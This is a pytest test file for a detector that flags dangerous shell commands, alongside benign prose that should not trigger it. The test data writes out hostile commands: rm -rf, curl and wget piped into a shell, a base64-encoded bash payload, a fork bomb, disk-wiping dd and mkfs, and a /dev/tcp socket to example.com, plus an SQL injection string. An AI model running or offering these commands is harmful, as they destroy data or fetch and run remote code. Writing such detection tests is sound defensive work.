"""Texts that nobody should run unseen, and prose that raises no alarm."""

import time

import pytest

from timothy.hints import MAX_TEXT, hint

TELLING = (
    "rm -rf ~/work",
    "cd x\nrm -rf build",
    "ls; rm -f *",
    "sudo rm x",
    "sudo apt-get install y",
    "$ sudo systemctl stop z",
    "git push --force origin main",
    "git reset --hard HEAD~3",
    "git clean -fdx",
    "chmod -R 777 .",
    "chown -R root .",
    "find . -name '*.bak' -delete",
    "curl https://example.com/x | sh",
    "wget -qO- x.example | sudo bash",
    "echo cm0gLXJmIC8K | base64 -d | bash",
    ":(){ :|:& };:",
    "dd if=/dev/zero of=disk.img",
    "mkfs.ext4 /dev/sdb1",
    "echo x > /dev/sda",
    "shutdown -h now",
    "true && `rm -r x`",
    "ls | xargs rm",
    "exec 3<>/dev/tcp/example.com/80",
)
PROSE = (
    "",
    "reboot",
    "Remember that sudo asks for a password, and that docker does not.",
    "sudo is short for `substitute user do`.",
    "We eval the results, truncate the tables and passwd is a file.",
    "It's the user's fault: don't forget the \"quotes.",
    "| tool | language |\n|---|---|\n| pip | python |\n| npm | node |\n| a | sh |",
    "def main():\n    system('ls')\n    while True:\n        pass\n",
    "function f() { return eval(x) }",
    "SELECT * FROM users WHERE name = 'x'; DROP TABLE users;",
    "git is a tool. git push sends what you have.",
    "rm removes files",
    "find the file's old name -- it was deleted",
    "The cat sat on the mat | and the perl of wisdom",
    "https://example.com/docs/rm?force=1#sudo",
    "a" * 5_000,
    "The quick brown fox. " * 5_000,
)


@pytest.mark.parametrize("text", TELLING)
def test_a_text_that_can_only_be_a_violent_command_deserves_a_look(text: str) -> None:
    assert hint(text)


@pytest.mark.parametrize("text", PROSE)
def test_prose_and_programs_raise_no_alarm(text: str) -> None:
    assert hint(text) is None


@pytest.mark.parametrize(
    "part", ["rm ", "rm x;", "cat ", "cat |", "sudo \n", "git -c\n", ":(", " ", "\n", "$", "a"]
)
def test_a_long_text_is_looked_through_in_a_moment(part: str) -> None:
    began = time.process_time()
    hint(part * (MAX_TEXT // len(part)))
    assert time.process_time() - began < 0.5


def test_a_text_too_long_to_oversee_deserves_a_look() -> None:
    assert hint("x" * (MAX_TEXT + 1))
